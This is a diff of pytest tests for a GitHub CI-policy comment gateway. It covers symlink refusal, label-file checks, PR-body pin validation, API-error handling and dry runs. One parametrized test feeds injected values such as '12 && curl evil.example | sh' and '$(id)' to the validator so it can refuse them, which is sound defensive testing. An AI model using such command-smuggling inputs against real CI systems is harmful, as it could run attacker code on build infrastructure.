+    shutil.move(str(world.pr / "tests/e2e/session_server"), str(world.pr / "session"))
+    (world.pr / "tests/e2e/session_server").symlink_to("../../session", target_is_directory=True)
+    file = "tests/e2e/session_server/test_session_multiturn.py"
+    assert world.run(f"/rerun-test {file}").rc == 0
+    refused(world, file, f"test file {file}: directory tests/e2e/session_server is a symlink; ci-policy refuses "
+            "symlinks in a checkout", [tree(), blob(world.pr_bytes("labels.py"))])
+
+
+def test_a_symlinked_labels_file_is_refused(world):
+    (world.pr / "labels.py").unlink()
+    (world.pr / "labels.py").symlink_to("tests/e2e/test_megatron_sft.py")
+    file = "tests/e2e/test_megatron_sft.py"
+    assert world.run(f"/rerun-test {file}").rc == 0
+    refused(world, file, "labels file labels.py is a symlink; ci-policy refuses symlinks in a checkout", [tree()])
+
+
+def test_duplicated_known_labels_in_the_prs_labels_file_are_refused(world):
+    labels = world.pr / "labels.py"
+    labels.write_text(labels.read_text() + 'KNOWN_LABELS = {"megatron": "mine"}\n')
+    file = "tests/e2e/test_megatron_sft.py"
+    assert world.run(f"/rerun-test {file}").rc == 0
+    refused(world, file, "KNOWN_LABELS is assigned 2 times (lines 7, 15); it must be assigned exactly once",
+            [tree(), blob(labels.read_bytes()), blob(world.pr_bytes(file))])
+
+
+@pytest.mark.parametrize("body, reason", [
+    ("ci-sglang-pr: 12a", "the PR body's ci-sglang-pr value '12a' does not match '[0-9]{1,7}'"),
+    ("ci-megatron-pr: 12345678", "the PR body's ci-megatron-pr value '12345678' does not match '[0-9]{1,7}'"),
+    ("ci-sglang-pr: 12 && curl evil.example | sh",
+     "the PR body's ci-sglang-pr value '12 && curl evil.example | sh' does not match '[0-9]{1,7}'"),
+    ("ci-sglang-pr:", "the PR body's ci-sglang-pr value '' does not match '[0-9]{1,7}'"),
+    ("ci-image-tag: $(id)", "the PR body's ci-image-tag value '$(id)' does not match "
+                            "'[A-Za-z0-9_][A-Za-z0-9_.-]{0,127}'"),
+    ("ci-image-tag: -latest", "the PR body's ci-image-tag value '-latest' does not match "
+                              "'[A-Za-z0-9_][A-Za-z0-9_.-]{0,127}'"),
+    ("ci-sglang-pr: 1\r\nci-sglang-pr: 2", "the PR body sets ci-sglang-pr twice"),
+])
+def test_an_invalid_pr_body_pin_is_refused_before_reading_the_tree(world, body, reason):
+    world.gh.pulls[PR].body = f"Summary.\r\n\r\n{body}\r\n"
+    file = "tests/e2e/test_megatron_sft.py"
+    result = world.run(f"/rerun-test {file}")
+    assert (result.rc, result.out) == (0, f"ci-policy comment: refused: {reason}\n")
+    refused(world, file, reason, [])
+
+
+def test_lines_that_are_not_pins_are_not_pins(world):
+    world.gh.pulls[PR].body = ("- ci-sglang-pr: not a pin (a list item)\n`ci-image-tag: x y`\nci-unknown-pin: zzz\n"
+                               "  ci-megatron-pr:\t77 \n")
+    file = "tests/e2e/test_megatron_sft.py"
+    assert world.run(f"/rerun-test {file}").rc == 0
+    assert world.calls() == dispatched(world, file, inputs(file, image_tag="", sglang_pr="", megatron_pr="77"),
+                                       f"(cuda, stage-b-1-gpu-h200) on [h200, 1gpu] at {HEAD[:12]}, timeout 900s")
+
+
+# -- API errors: a clear reply, exit 1, never a traceback ----------------------------------------------------
+
+def test_a_server_error_while_adding_a_label_gets_a_clear_reply_and_exit_1(world):
+    world.gh.fail("POST", f"{P}/issues/{PR}/labels")
+    result = world.run("/run-ci-megatron", login="ada")
+    assert (result.rc, result.out, result.err) == (
+        1, "ci-policy comment: failed: GitHub API error 500: Internal Server Error\n", "")
+    assert world.calls() == [
+        perm("ada"), get_label("run-ci-megatron"),
+        ("POST", f"{P}/issues/{PR}/labels", {}, {"labels": ["run-ci-megatron"]}),
+        reply("> /run-ci-megatron\n\n`/run-ci-megatron` failed: GitHub API error 500: Internal Server Error."),
+    ]
+
+
+def test_a_server_error_of_the_permission_check_gets_a_clear_reply_and_exit_1(world):
+    world.gh.fail("GET", f"{P}/collaborators/ada/permission", 502, "Server Error")
+    result = world.run("/clear-labels", login="ada")
+    assert (result.rc, result.out) == (1, "ci-policy comment: failed: GitHub API error 502: Server Error\n")
+    assert world.calls() == [perm("ada"), reply("> /clear-labels\n\n`/clear-labels` failed: GitHub API error 502: "
+                                                "Server Error.")]
+
+
+def test_a_failed_dispatch_gets_a_clear_reply_and_no_reaction(world):
+    world.gh.fail("POST", f"{P}/actions/workflows/rerun-test.yml/dispatches", 500, "Internal Server Error")
+    file = "tests/e2e/test_megatron_sft.py"
+    result = world.run(f"/rerun-test {file}")
+    assert (result.rc, result.out) == (1, "ci-policy comment: failed: GitHub API error 500: Internal Server Error\n")
+    assert world.calls() == [
+        perm("maria"), PULL, tree(), blob(world.pr_bytes("labels.py")), blob(world.pr_bytes(file)),
+        dispatch(inputs(file)),
+        reply(f"> /rerun-test {file}\n\n`/rerun-test {file}` failed: GitHub API error 500: Internal Server Error."),
+    ]
+
+
+def test_when_even_the_reply_fails_the_error_is_reported_without_a_traceback(world):
+    world.gh.fail("GET", f"{P}/collaborators/ada/permission")
+    world.gh.fail("POST", f"{P}/issues/{PR}/comments", 503, "Service Unavailable")
+    result = world.run("/run-ci-megatron", login="ada")
+    assert (result.rc, result.out, result.err) == (
+        1, "ci-policy comment: failed: GitHub API error 503: Service Unavailable\n", "")
+    assert world.calls() == [perm("ada"), reply("> /run-ci-megatron\n\n`/run-ci-megatron` failed: GitHub API error "
+                                                "500: Internal Server Error.")]
+
+
+def test_an_unreachable_api_is_reported_without_a_traceback(world):
+    with socket.socket() as s:  # a port nothing listens on
+        s.bind(("127.0.0.1", 0))
+        port = s.getsockname()[1]
+    result = world.run("/run-ci-megatron", "--api-url", f"http://127.0.0.1:{port}", login="ada")
+    assert (result.rc, result.out, result.err) == (
+        1, "ci-policy comment: failed: GitHub API error 0: no usable answer from the API (ConnectionError)\n", "")
+    assert world.calls() == []
+
+
+# -- dry run -------------------------------------------------------------------------------------------------
+
+def printed(out: str) -> list[dict]:
+    return [json.loads(line) for line in out.splitlines()]
+
+
+def test_dry_run_prints_the_mutating_requests_and_sends_only_reads(world):
+    file = "tests/e2e/test_megatron_sft.py"
+    result = world.run(f"/rerun-test {file}", "--dry-run", login="maria")
+    assert (result.rc, result.err) == (0, done(f"dispatched rerun-test.yml for {file} at {HEAD}"))
+    assert printed(result.out) == [
+        {"method": "POST", "path": f"{P}/actions/workflows/rerun-test.yml/dispatches",
+         "body": {"ref": "main", "inputs": inputs(file)}},
+        {"method": "POST", "path": f"{P}/issues/comments/{COMMENT_ID}/reactions", "body": {"content": "+1"}},
+        {"method": "POST", "path": f"{P}/issues/{PR}/comments", "body": {"body": (
+            f"> /rerun-test {file}\n\nRerunning `{file}` (cuda, stage-b-1-gpu-h200) on [h200, 1gpu] at {HEAD[:12]}, "
+            "timeout 900s: https://github.com/acme/minirl/actions/workflows/rerun-test.yml")}},
+    ]
+    assert world.calls() == [perm("maria"), PULL, tree(), blob(world.pr_bytes("labels.py")), blob(world.pr_bytes(file))]
+    assert world.gh.dispatches == [] and world.gh.comments == [] and world.gh.reactions == []
+
+
+def test_dry_run_of_clear_labels_prints_each_delete(world):
+    world.gh.issue_labels[PR] = ["run-ci-fsdp", "documentation", "nightly"]
+    result = world.run("/clear-labels", "--dry-run", login="tom")
+    assert (result.rc, result.err) == (0, done("removed 2 CI label(s): run-ci-fsdp, nightly"))
+    assert printed(result.out) == [
+        {"method": "DELETE", "path": f"{P}/issues/{PR}/labels/run-ci-fsdp", "body": None},
+        {"method": "DELETE", "path": f"{P}/issues/{PR}/labels/nightly", "body": None},
+        {"method": "POST", "path": f"{P}/issues/comments/{COMMENT_ID}/reactions", "body": {"content": "+1"}},
+    ]
+    assert world.calls() == [perm("tom"), ("GET", f"{P}/issues/{PR}/labels", {"per_page": "100"}, None)]
+    assert world.gh.issue_labels[PR] == ["run-ci-fsdp", "documentation", "nightly"]
+
+
+def test_dry_run_of_a_refusal_prints_the_reply(world):
+    result = world.run("/run-ci-megatron", "--dry-run", login="rita")
+    assert result.err == "ci-policy comment: refused: rita (read) is not in group ci-helpers\n"
+    assert printed(result.out) == [{"method": "POST", "path": f"{P}/issues/{PR}/comments", "body": {"body": (
+        "> /run-ci-megatron\n\n@rita is not allowed to use `/run-ci-megatron` (it needs the ci-helpers group; your "
+        "repository permission is read).")}}]
+    assert world.calls() == [perm("rita")]
+
+
+# -- the rerun workflow and the gateway agree ----------------------------------------------------------------
+
+def test_the_dispatch_inputs_are_exactly_the_rerun_workflows_inputs():
+    definition = workflow_dispatch_definition(RERUN_WORKFLOW)
+    assert set(definition.inputs) == set(inputs("tests/e2e/test_a.py"))
+    assert {name for name, required in definition.inputs.items() if required} == {"pull_number", "head_sha",
+                                                                                   "test_file"}
+
+
+def test_the_run_name_as_written_is_the_one_the_gateway_looks_for():
+    rendered = re.sub(r"\$\{\{ inputs\.(\w+) \}\}", lambda m: {"test_file": "tests/e2e/test_a.py",
+                                                                 "pull_number": "7", "head_sha": HEAD}[m.group(1)],
+                      RUN_NAME_AS_WRITTEN)
+    assert rendered == run_name(7, "tests/e2e/test_a.py", HEAD)
+
+
+def test_the_rerun_workflows_run_name_survives_yaml_parsing_whole():
+    raw = re.search(r"^run-name: (.*)$", RERUN_WORKFLOW.read_text(), re.M).group(1)
+    assert " #" in RUN_NAME_AS_WRITTEN  # the part an unquoted scalar would lose as a comment
+    assert raw == f'"{RUN_NAME_AS_WRITTEN}"'
